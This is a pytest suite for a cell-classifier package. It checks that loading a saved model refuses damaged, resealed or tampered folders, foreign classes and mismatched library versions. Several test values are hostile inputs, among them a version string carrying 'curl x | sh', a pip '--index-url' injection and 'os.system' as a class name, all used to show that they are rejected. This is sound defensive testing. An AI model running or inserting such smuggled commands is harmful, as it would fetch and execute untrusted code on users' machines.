"""Saved models: found again by their class, whole, unchanged, and fitting this program; or not."""

from __future__ import annotations

import importlib
import importlib.metadata
import io
import json
import os
import re
import shutil
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from trained_models import new_cells, saved_in, trained

from cellclassifier.errors import InputError
from cellclassifier.interface import Classifier, GeneClassifier
from cellclassifier.model_folder import FORMAT_VERSION, LIBRARIES, read_description, seal
from cellclassifier.models.augmented.classifier import AugmentedClassifier
from cellclassifier.models.baselines.classifier import Baseline
from cellclassifier.models.baselines.options import METHODS
from cellclassifier.models.geneformer import GeneformerClassifier
from cellclassifier.models.methods import make_method

AGAIN = "train and save the model again"


@pytest.fixture
def folder(tmp_path_factory, tmp_path):
    """A copy of a saved model, to be damaged."""
    original = saved_in(tmp_path_factory, "logistic_regression")
    return shutil.copytree(original, tmp_path / "model")


def content_of(folder) -> dict:
    return json.loads((folder / "model.json").read_text())


def change(folder, **changed) -> None:
    """Change model.json and renew all digests: what someone who means harm would do."""
    content = content_of(folder) | changed
    seal(folder, {key: value for key, value in content.items() if value is not None})


def refuse(folder, match: str) -> None:
    with pytest.raises(InputError, match=match):
        Classifier.load(folder)


def test_another_class_than_asked_for_is_refused(tmp_path_factory, folder):
    with pytest.raises(InputError, match="holds a GeneformerClassifier, expected a Baseline"):
        Baseline.load(saved_in(tmp_path_factory, "geneformer"))
    assert Baseline.load(folder).method == "logistic_regression"


def test_no_folder(tmp_path):
    refuse(tmp_path / "nowhere", "nowhere does not exist: expected the folder of a saved model")
    (tmp_path / "file").touch()
    refuse(tmp_path / "file", r"holds no model\.json")
    (tmp_path / "empty").mkdir()
    refuse(tmp_path / "empty", r"holds no model\.json")


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "3", '{"method": "gbdt"}', "[" * 100_000])
def test_damaged_descriptions_are_refused(folder, text):
    (folder / "model.json").write_text(text)
    with pytest.raises(InputError, match=rf"model\.json is damaged .*{AGAIN}"):
        read_description(folder)


def test_an_undecodable_description_is_refused(folder):
    (folder / "model.json").write_bytes(b"\xff\xfe\x00{")
    refuse(folder, r"model\.json is damaged")


def test_a_description_that_is_no_utf8_is_not_repeated(folder):
    content = (folder / "model.json").read_bytes()
    (folder / "model.json").write_bytes(content.replace(b'"method"', b'"m\xffthod"'))
    with pytest.raises(InputError, match=rf"is damaged \(its text is not UTF-8\): {AGAIN}") as told:
        read_description(folder)
    assert str(told.value).count("model.json") == 1


@pytest.mark.parametrize("text", ["T\r\nB", "\x1b[2J", "\ud800", "\0", "gbdt" * 10**5])
@pytest.mark.parametrize("key", ["method", "class", "versions", "question"])
def test_texts_of_strangers_are_told_in_a_line(folder, key, text):
    """They are no commands to a terminal, no second line, and not longer than a screen."""
    change(folder, **{key: {"numpy": text} if key == "versions" else text})
    with pytest.raises(InputError) as told:
        Classifier.load(folder)
    assert str(told.value).isprintable() and len(str(told.value)) < 1000


@pytest.mark.parametrize("version", [FORMAT_VERSION + 1, 99, 1, 0, -1, "2", None, [2], 2.5])
def test_other_formats_are_refused(folder, version):
    """Newer and older ones; what to do is said."""
    content = content_of(folder) | {"format_version": version}
    (folder / "model.json").write_text(json.dumps(content))
    refuse(folder, rf"this program reads {FORMAT_VERSION}: use the version of cellclassifier that")


def test_a_newer_format_is_told_before_anything_else(folder):
    """It may have other fields, and other files: nothing of it is called damaged."""
    (folder / "model.json").write_text(json.dumps({"format_version": FORMAT_VERSION + 1}))
    (folder / "model.skops").unlink()
    refuse(folder, f"has format version {FORMAT_VERSION + 1}, this program reads")


FIELDS = ("method", "class", "digest", "types", "question")
GENE_FIELDS = ("genes", "symbols", "importance")


@pytest.mark.parametrize("key", [*FIELDS, "versions", "files", "calibration"])
@pytest.mark.parametrize("value", ["missing", 3, None])
def test_missing_fields_are_damage(folder, key, value):
    content = content_of(folder) | {key: value}
    if value == "missing":
        del content[key]
    (folder / "model.json").write_text(json.dumps(content))
    refuse(folder, rf"model\.json is damaged \(no '{key}'\)")


@pytest.mark.parametrize("key", GENE_FIELDS)
@pytest.mark.parametrize("value", [3, None])
def test_a_model_of_genes_names_them(folder, key, value):
    """Also where whoever took the names away sealed the folder again."""
    change(folder, **{key: value})
    refuse(folder, rf"model\.json is damaged \(no '{key}'\)")


@pytest.mark.parametrize(
    "changed",
    [
        {"method": "gbdt"},
        {"types": ["B", "NK", "T"]},
        {"calibration": {"temperature": 2.0, "val_ece_before": 0.1, "val_ece_after": 0.1}},
        {"data": {"sha256": "2"}},
        {"note": "one more"},
        {"versions": {}},
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_an_edited_description_is_refused(folder, changed):
    content = content_of(folder)
    assert all(content.get(key) != value for key, value in changed.items())
    (folder / "model.json").write_text(json.dumps(content | changed))
    refuse(folder, rf"model\.json was changed after the model was saved: {AGAIN}")


def test_an_edit_that_changes_no_value_is_none(folder):
    content = content_of(folder)
    (folder / "model.json").write_text(json.dumps(dict(reversed(content.items())), indent=7))
    assert Classifier.load(folder).method == content["method"]


@pytest.mark.parametrize("name", ["model.skops", "novelty.npz"])
def test_edited_files_are_refused(folder, name):
    content = (folder / name).read_bytes()
    for edited in (content + b"\0", content[:-1], bytes([content[0] ^ 1]) + content[1:]):
        (folder / name).write_bytes(edited)
        refuse(folder, rf"{name} is damaged or was changed after the model was saved .*SHA-256")


@pytest.mark.parametrize("name", ["model.skops", "novelty.npz"])
def test_missing_files_are_refused(folder, name):
    (folder / name).unlink()
    refuse(folder, rf"is not as it was saved: {name} is missing; {AGAIN}")


@pytest.mark.parametrize("name", ["notes.txt", "a_folder"])
def test_extra_files_are_refused(folder, name):
    (folder / name).mkdir() if "folder" in name else (folder / name).touch()
    refuse(folder, rf"{name} is no part of the model")


def pipe(path: Path) -> None:
    os.mkfifo(path)


def link_to(target: str):
    return lambda path: path.symlink_to(target)


@pytest.mark.parametrize("name", ["model.json", "model.skops", "novelty.npz"])
@pytest.mark.parametrize(
    "make", [pipe, link_to("/dev/zero"), link_to("nowhere"), link_to("../elsewhere")]
)
def test_only_plain_files_are_opened(folder, name, make):
    """A pipe without a writer, or /dev/zero, would be read for ever."""
    (folder / name).rename(folder.parent / "elsewhere")
    make(folder / name)
    refuse(folder, rf"{name} is no plain file")


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("temperature", "1" + "0" * 400),
        ("temperature", "1e999"),
        ("temperature", "NaN"),
        ("temperature", "-1" + "0" * 5000),
        ("val_ece_before", "[" * 700 + "]" * 700),
        ("val_ece_before", "[" * 90_000 + "]" * 90_000),
    ],
    ids=lambda text: text[:12],
)
def test_numbers_and_lists_beyond_measure(folder, key, text):
    """Sealed or not, whatever the interpreter thinks of them: a sentence, or no harm."""
    content = (folder / "model.json").read_text()
    bent = re.sub(rf'"{key}": [^,\n]+', f'"{key}": {text}', content, count=1)
    assert bent != content
    (folder / "model.json").write_text(bent)
    refuse(folder, r"model\.json (is damaged|was changed)")


@pytest.mark.parametrize(
    "changed",
    [
        {"importance": [10**400] * 40},
        {"importance": [1e308] * 40},
        {"types": ["B", "B", "NK"]},
        {"types": ["B", "NK", "T\ud800"]},
        {"types": ["B", "NK", "T\0"]},
        {"genes": ["g\0"] * 40},
        {"symbols": ["\udfff"] * 40},
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_sealed_texts_and_numbers_that_nothing_can_hold(folder, changed):
    change(folder, **changed)
    refuse(folder, r"model\.json is damaged")


def test_novelty_that_swells_is_refused_before_it_is_unpacked(folder):
    with zipfile.ZipFile(folder / "novelty.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("projection", "centres", "whitening", "quantiles", "excess", "thresholds"):
            content = io.BytesIO()
            np.save(content, np.zeros(10**6))
            archive.writestr(f"{name}.npy", content.getvalue())
    change(folder)
    refuse(folder, r"novelty\.npz: .*when unpacked")


@pytest.mark.parametrize(
    ("package", "saved_with", "fits"),
    [
        ("numpy", "MAJOR.0.0", True),
        ("numpy", "0.9.1", False),
        ("scikit-learn", "MAJOR.MINOR.99", True),
        ("scikit-learn", "MAJOR.0.2", False),
        ("skops", "99.1", False),
        ("no-such-package", "1.0", False),
        ("", "1.0", False),
    ],
)
def test_library_versions(folder, package, saved_with, fits):
    """Of scikit-learn the minor version counts, too; the sentence names the command."""
    try:
        installed = importlib.metadata.version(package)
    except (importlib.metadata.PackageNotFoundError, ValueError):
        installed = "none"
    major, minor = (installed + ".").split(".")[:2]
    saved_with = saved_with.replace("MAJOR", major).replace("MINOR", minor)
    change(folder, versions=content_of(folder)["versions"] | {package: saved_with})
    if fits:
        assert Classifier.load(folder).method == "logistic_regression"
    else:
        refuse(
            folder,
            rf"was saved with {package} {saved_with}, installed is {installed}, .*"
            + (f"pip install {package}=={saved_with}" if package in LIBRARIES else AGAIN),
        )


@pytest.mark.parametrize(
    "stranger",
    [{"tehnsorflow": "1.0"}, {"--index-url=http://x numpy": "1"}, {"numpy": "1.0; curl x | sh"}],
)
def test_a_stranger_decides_nothing_that_is_installed(folder, stranger):
    """Whoever copies the advice to a shell installs what this project's models use, no more."""
    change(folder, versions=content_of(folder)["versions"] | stranger)
    with pytest.raises(InputError) as error:
        Classifier.load(folder)
    assert "pip" not in str(error.value) and str(error.value).endswith(AGAIN)


def test_every_library_that_a_model_names_may_be_advised():
    named = {
        *GeneClassifier.packages,
        *GeneformerClassifier.packages,
        *AugmentedClassifier.packages,
        *(library for method in METHODS for library in make_method(method, seed=0).packages),
    }
    assert named == set(LIBRARIES)


@pytest.mark.parametrize(
    ("package", "installed"), [("numpy", "3.0.0"), ("scikit-learn", "1.99.0"), ("skops", None)]
)
def test_a_later_installation(folder, monkeypatch, package, installed):
    """The model stays, the libraries move on, or are gone."""
    version = importlib.metadata.version

    def other(name):
        if name != package:
            return version(name)
        if installed is None:
            raise importlib.metadata.PackageNotFoundError(name)
        return installed

    monkeypatch.setattr(importlib.metadata, "version", other)
    refuse(folder, rf"installed is {installed or 'none'}, .*pip install {package}==")


BOOSTED = {"gbdt", "soft_vote"}


@pytest.mark.parametrize("method", METHODS)
def test_a_baseline_asks_for_what_its_method_needs(tmp_path_factory, method):
    """And for XGBoost under the name that exists for every platform."""
    versions = content_of(saved_in(tmp_path_factory, method))["versions"]
    needed = {"numpy", "scikit-learn", "skops"} | ({"xgboost"} if method in BOOSTED else set())
    assert set(versions) == needed


@pytest.mark.parametrize("recorded", ["xgboost", "xgboost-cpu"])
@pytest.mark.parametrize("installed", ["xgboost", "xgboost-cpu"])
def test_a_model_travels_between_builds_of_xgboost(
    tmp_path_factory, tmp_path, monkeypatch, recorded, installed
):
    """Saved with one build, read with the other; of another version the command names it."""
    folder = shutil.copytree(saved_in(tmp_path_factory, "gbdt"), tmp_path / "model")
    version = importlib.metadata.version

    def other(name):
        if name in ("xgboost", "xgboost-cpu") and name != installed:
            raise importlib.metadata.PackageNotFoundError(name)
        return "3.9.1" if name == installed else version(name)

    monkeypatch.setattr(importlib.metadata, "version", other)
    versions = {k: v for k, v in content_of(folder)["versions"].items() if k != "xgboost"}
    change(folder, versions=versions | {recorded: "3.2.0"})
    assert Classifier.load(folder).method == "gbdt"
    change(folder, versions=versions | {recorded: "2.1.4"})
    refuse(folder, rf"with {recorded} 2\.1\.4, installed is 3\.9\.1, .*install {installed}==2")


STRANGE_CLASSES = [
    "os.path",
    "os.system",
    "antigravity.x",
    "this",
    "",
    ".",
    "builtins.object",
    "cellclassifier.Baseline",
    "cellclassifier..baselines.Baseline",
    "cellclassifier.os.path.x",
    "cellclassifier_evil.x.Model",
    "cellclassifier.nowhere.X",
    "xcellclassifier.a.B",
    "cellclassifier.models.baselines.classifier.NoSuch",
    "cellclassifier.model_folder.FORMAT_VERSION",
    "cellclassifier.model_folder.json",
]


@pytest.mark.parametrize("name", STRANGE_CLASSES)
def test_classes_from_elsewhere_are_never_imported(folder, monkeypatch, tmp_path, name):
    evil = tmp_path / "cellclassifier_evil"
    evil.mkdir()
    (evil / "__init__.py").write_text("raise AssertionError('imported')")
    monkeypatch.syspath_prepend(tmp_path)
    before, asked, import_module = set(sys.modules), [], importlib.import_module
    monkeypatch.setattr(
        importlib, "import_module", lambda module: asked.append(module) or import_module(module)
    )
    change(folder, **{"class": name})
    refuse(folder, r"which this version of cellclassifier does not know|is damaged")
    assert not {"antigravity", "this", "cellclassifier_evil"} & (set(sys.modules) - before)
    assert all(module.startswith("cellclassifier.") for module in asked)


@pytest.mark.parametrize(
    "name",
    [
        "model_folder.Path",
        "models.baselines.classifier.Trial",
        "interface.Classifier",
        "errors.InputError",
    ],
)
def test_classes_that_are_no_classifier_are_refused(folder, name):
    change(folder, **{"class": f"cellclassifier.{name}"})
    refuse(folder, f"holds a {name.rpartition('.')[2]}, expected a Classifier")


@pytest.mark.parametrize(
    "changed",
    [
        {"types": [1, 2, 3]},
        {"genes": [["a"], ["b", "c"]] * 20},
        {"symbols": [None] * 40},
        {"importance": ["much"] * 40},
        {"importance": [-1.0] * 40},
        {"importance": [float("nan")] * 40},
        {"genes": []},
        {"genes": [f"other {i}" for i in range(40)]},
        {"types": ["B", "NK"]},
        {"types": []},
        {"calibration": {"temperature": 0}},
        {"calibration": {"temperature": "hot"}},
        {"calibration": {"temperature": float("inf")}},
        {"calibration": {"heat": 1.0}},
        {"method": "gbdt"},
        {"method": "svm"},
    ],
    ids=str,
)
def test_sealed_nonsense_is_refused_in_a_sentence(folder, changed):
    change(folder, **changed)
    refuse(folder, "model|method")


def test_a_strangers_novelty_is_refused(tmp_path_factory, folder):
    (folder / "novelty.npz").write_bytes(b"text")
    change(folder)
    refuse(folder, r"is damaged \(novelty\.npz")


def test_the_old_model_stays_until_the_new_one_is_written(folder, monkeypatch):
    expected = Classifier.load(folder).predict_proba(new_cells())
    for step in ("_save_parts", "gene_importance"):
        with monkeypatch.context() as patch:
            patch.setattr(Baseline, step, lambda *args: 1 / 0)
            with pytest.raises(ZeroDivisionError):
                trained("gbdt").save(folder)
    found = Classifier.load(folder).predict_proba(new_cells())
    np.testing.assert_array_equal(found, expected)
    assert [path.name for path in folder.parent.iterdir()] == ["model"]


@pytest.mark.parametrize("at", [1, 2])
def test_ctrl_c_while_models_are_exchanged_leaves_one(folder, monkeypatch, at):
    """Stopped before the old folder is out of the way, and before the new one is in its place."""
    rename, calls = Path.rename, []

    def interrupted(self, target):
        calls.append(target)
        if len(calls) == at:
            raise KeyboardInterrupt
        return rename(self, target)

    monkeypatch.setattr(Path, "rename", interrupted)
    with pytest.raises(KeyboardInterrupt):
        trained("gbdt").save(folder)
    Classifier.load(folder)
    assert [path.name for path in folder.parent.iterdir()] == ["model"]


def test_hidden_files_of_a_file_manager_do_no_harm(folder):
    (folder / ".DS_Store").touch()
    Classifier.load(folder)
